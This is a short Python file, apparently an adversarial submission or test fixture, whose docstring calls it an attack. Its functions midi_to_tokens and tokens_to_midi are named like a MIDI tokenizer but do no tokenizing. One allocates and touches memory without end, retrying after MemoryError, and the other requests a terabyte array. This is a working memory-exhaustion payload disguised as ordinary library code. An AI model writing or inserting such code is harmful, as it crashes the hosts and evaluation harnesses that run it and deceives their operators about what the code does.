"""Attack: allocate memory until stopped (and touch it, so it is real)."""
_kept = []


def _grab():
    while True:
        block = bytearray(64 << 20)
        for i in range(0, len(block), 4096):
            block[i] = 1
        _kept.append(block)


def midi_to_tokens(midi):
    try:
        _grab()
    except MemoryError:
        pass
    _grab()    # again, with nothing freed: the next MemoryError ends the call


def tokens_to_midi(tokens, bpm=120):
    import numpy as np
    return np.ones((1 << 40,), dtype=np.uint8)
